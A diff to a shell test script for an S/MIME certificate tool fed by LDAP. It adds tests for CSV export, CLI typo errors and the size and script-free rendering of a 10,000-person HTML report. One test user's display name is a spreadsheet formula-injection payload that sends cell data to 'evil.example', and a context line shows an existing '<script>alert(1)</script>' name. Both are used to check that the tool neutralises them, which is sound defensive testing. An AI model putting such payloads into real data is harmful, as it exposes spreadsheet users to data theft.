@@ -43,10 +43,18 @@ cn: Mark <script>alert(1)</script> Up
 sn: Up, Mark
 displayName: Up, Mark <b>&amp;</b>
 mail: markup@example.org
+
+dn: uid=formula,ou=people,$SLAPD_BASE
+objectClass: inetOrgPerson
+uid: formula
+cn: Formula
+sn: Formula
+displayName: =HYPERLINK("http://evil.example/?"&A1, "click")
+mail: formula@example.org
 LDIF
 slapd_load "$W/odd.ldif" >/dev/null
-printf 'dn: cn=smime-staff,ou=groups,%s\nchangetype: modify\nadd: member\nmember: uid=markup,ou=people,%s\n' \
-	"$SLAPD_BASE" "$SLAPD_BASE" | ldapmodify -x -H "$SLAPD_URI" -D "$SLAPD_ADMIN_DN" -y "$SLAPD_ADMIN_PW_FILE" >/dev/null
+printf 'dn: cn=smime-staff,ou=groups,%s\nchangetype: modify\nadd: member\nmember: uid=markup,ou=people,%s\nmember: uid=formula,ou=people,%s\n' \
+	"$SLAPD_BASE" "$SLAPD_BASE" "$SLAPD_BASE" | ldapmodify -x -H "$SLAPD_URI" -D "$SLAPD_ADMIN_DN" -y "$SLAPD_ADMIN_PW_FILE" >/dev/null
 smtp_start "$W/smtp"
 smimesync_write_config "$W" p256 p256
 # A group whose DN does not exist: a directory error the report must explain.
@@ -58,7 +66,7 @@ group_dn = cn=no-such-group,ou=groups,$SLAPD_BASE
 ca = internal
 key_type = p256
 CONF
-"$SMIMESYNC" ca init >/dev/null
+"$SMIMESYNC" ca init --root-key-out "$ROOT_KEY_OUT" >/dev/null
 DB=$W/state/smimesync.db
 
 rc=0
@@ -147,6 +155,9 @@ total=$("$SMIMESYNC" status --format json | jq 'map(select(.serial != null)) | l
 staff=$("$SMIMESYNC" status --group smime-staff --format json)
 [ "$(echo "$staff" | jq 'map(select(.group != "smime-staff")) | length')" = 0 ] && [ "$(echo "$staff" | jq length)" -gt 0 ] &&
 	ok "status --group smime-staff: only staff ($(echo "$staff" | jq length))" || fail "group filter"
+rc=0; "$SMIMESYNC" status --group smime-staf >"$W/typo.out" 2>"$W/err" || rc=$?
+[ "$rc" = 2 ] && [ ! -s "$W/typo.out" ] && grep -q 'no \[group smime-staf\].*its groups: smime-sales, smime-staff' "$W/err" &&
+	ok "status --group with a typo is an error naming the groups, not an empty list" || fail "unknown group: rc=$rc $(cat "$W/err")"
 "$SMIMESYNC" status --format csv >"$W/status.csv"
 head -1 "$W/status.csv" | grep -q '^mail,name,group,id,serial,not_after,published,state,last_error' && ok "CSV header" || fail "CSV header"
 /usr/bin/python3 - "$W/status.csv" "$total" <<'PY' && ok "CSV parses: one row per user, the comma in a name quoted" || fail "CSV content"
@@ -155,6 +166,13 @@ rows = list(csv.DictReader(open(sys.argv[1], newline="")))
 assert sum(1 for r in rows if r["serial"]) == int(sys.argv[2]), "rows"
 m = [r for r in rows if r["mail"] == "markup@example.org"]
 assert m and m[0]["name"].startswith("Up, Mark"), m
+PY
+# A formula that also needs quotes (comma, quote) is still neutralised.
+/usr/bin/python3 - "$W/status.csv" <<'PY' && ok "CSV: a quoted formula cell starts with an apostrophe" || fail "CSV formula in a quoted cell: $(grep formula@ "$W/status.csv")"
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+f = [r for r in rows if r["mail"] == "formula@example.org"]
+assert f and f[0]["name"].startswith("'=HYPERLINK"), f
 PY
 rc=0; "$SMIMESYNC" status --format xml >/dev/null 2>"$W/err" || rc=$?
 [ "$rc" = 2 ] && ok "status --format xml is a usage error" || fail "status xml rc=$rc"
@@ -167,6 +185,70 @@ all=$("$SMIMESYNC" audit --format json | jq length)
 [ "$("$SMIMESYNC" audit --since 1d --format json | jq length)" = "$all" ] && [ "$all" -gt 0 ] &&
 	ok "audit --since 1d: all $all entries" || fail "audit since 1d"
 [ "$("$SMIMESYNC" audit --since 2099-01-01 --format json | jq length)" = 0 ] && ok "audit --since the future: none" || fail "audit future"
+rc=0; "$SMIMESYNC" audit --user alcie@example.org >"$W/audit-typo.txt" 2>"$W/err" || rc=$?
+[ "$rc" = 0 ] && [ ! -s "$W/audit-typo.txt" ] && grep -q 'no entries for "alcie@example.org"; --user takes' "$W/err" &&
+	ok "audit --user with a typo says there are no entries, on stderr" || fail "audit typo: rc=$rc $(cat "$W/err")"
+
+# --- a report of 10,000 people stays readable ------------------------------------
+# A roll-out's report (tests/tools/big-report.py: schema-valid, 10,000 people,
+# 100 failures), stored in a copy of the store as a run, rendered as HTML.
+mkdir -m 700 "$W/big"
+sqlite3 "$DB" ".backup $W/big/smimesync.db"
+printf '[service]\nstate_dir = %s/big\n' "$W" >"$W/big.conf"
+for n in 10000 300; do
+	/usr/bin/python3 "$top_srcdir/tests/tools/big-report.py" "$n" "R$n" >"$W/r$n.json"
+	sqlite3 "$W/big/smimesync.db" "INSERT INTO runs (id, started, finished, status, report) VALUES ('R$n', 1, 2, 'partial', readfile('$W/r$n.json'))"
+	"$SMIMESYNC" -c "$W/big.conf" report "R$n" --format html >"$W/r$n.html"
+done
+$VALIDATE "$W/r10000.json" >/dev/null 2>&1 && ok "the 10,000-person report validates against the schema" || fail "big report schema"
+B=$W/r10000.html
+size=$(stat -c %s "$B")
+[ "$size" -lt 4194304 ] && ok "10,000 people in $size bytes ($((size / 10000)) per person; the bound is 4 MiB)" || fail "10,000 people take $size bytes"
+grep -q '<details class="people"><summary><h2>Users (10000)</h2></summary>' "$B" &&
+	ok "the people table is collapsed behind its count" || fail "people not collapsed"
+awk '/<h2>Summary/{s=NR} /<h2>Errors/{e=NR} /<h2>Users/{u=NR} END{exit !(s && s<e && e<u)}' "$B" &&
+	ok "summary first, then errors, then the people" || fail "big report section order"
+grep -q '<details class="errs"><summary><h2>Errors (100)</h2>' "$B" && ok "100 errors: collapsed too" || fail "errors not collapsed"
+grep -qi '<script' "$B" && fail "a script in the big report" || ok "no script: filtering is CSS only"
+grep -q "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'" "$B" &&
+	ok "a Content-Security-Policy forbids any script" || fail "no CSP"
+# Every filter value has its button and its rule; the values are indexes, never report text.
+for dim in o a g; do
+	grep -q "<input type=\"radio\" class=\"f\" name=\"f$dim\" id=\"f$dim-all\" checked>" "$B" || fail "no filter buttons for $dim"
+done
+grep -q '<label for="fo[0-9]*">failed (100)</label>' "$B" && grep -q '<label for="fa[0-9]*">skip (100)</label>' "$B" && grep -q '<label for="fo[0-9]*">pending (40)</label>' "$B" &&
+	grep -q '<label for="fg[0-9]*">sales (3334)</label>' "$B" && ok "filters by outcome, action and group, with counts" || fail "filter labels"
+if [ -n "$CHROMIUM" ]; then
+	if chrome_render "$B" "$W/big.png" "$W/big-chrome.log"; then
+		ok "Chromium rendered the 10,000-person report to a PNG"
+	else
+		fail "Chromium could not render the big report: $(tail -5 "$W/big-chrome.log")"
+	fi
+	grep -E 'CONSOLE|Uncaught|Refused to|net::ERR' "$W/big-chrome.log" >"$W/big-console.txt" || true
+	[ ! -s "$W/big-console.txt" ] && ok "no console errors (no CSP violation)" || fail "console: $(head -3 "$W/big-console.txt")"
+	"$CHROMIUM" --headless --no-sandbox --disable-gpu --user-data-dir="$W/chrome-dom" --dump-dom "file://$B" >"$W/big-dom.html" 2>/dev/null || true
+	rows=$(grep -o '<tr class="o' "$W/big-dom.html" | wc -l)
+	[ "$rows" = 10000 ] && ok "the browser's DOM holds all 10,000 rows" || fail "the DOM holds $rows rows"
+	# The filter works in the browser: printed with only "failed" chosen, the
+	# page is a fraction of the page with every person (details opened).
+	/usr/bin/python3 - "$W/r300.html" "$W" <<'PY'
+import re, sys
+h = open(sys.argv[1]).read().replace('<details class="people">', '<details class="people" open>')
+open(sys.argv[2] + "/all.html", "w").write(h)
+fid = re.search(r'<label for="(fo\d+)">failed \(', h).group(1)
+h = h.replace('id="fo-all" checked>', 'id="fo-all">').replace('id="%s">' % fid, 'id="%s" checked>' % fid)
+open(sys.argv[2] + "/failed.html", "w").write(h)
+PY
+	for v in all failed; do
+		"$CHROMIUM" --headless --no-sandbox --disable-gpu --user-data-dir="$W/chrome-pdf" --no-pdf-header-footer \
+			--print-to-pdf="$W/$v.pdf" "file://$W/$v.html" >/dev/null 2>&1 || true
+	done
+	pages() { /usr/bin/python3 -c 'import re, sys; print(len(re.findall(rb"/Type\s*/Page[^s]", open(sys.argv[1], "rb").read())))' "$1" 2>/dev/null || echo 0; }
+	p_all=$(pages "$W/all.pdf"); p_failed=$(pages "$W/failed.pdf")
+	[ "$p_failed" -gt 0 ] && [ "$p_all" -ge $((3 * p_failed)) ] &&
+		ok "the outcome filter hides the other rows: $p_failed printed pages instead of $p_all" ||
+		fail "filter: $p_failed pages with \"failed\" chosen, $p_all with all"
+fi
 
 echo "$fails failure(s)"
 [ "$fails" = 0 ] || exit 1
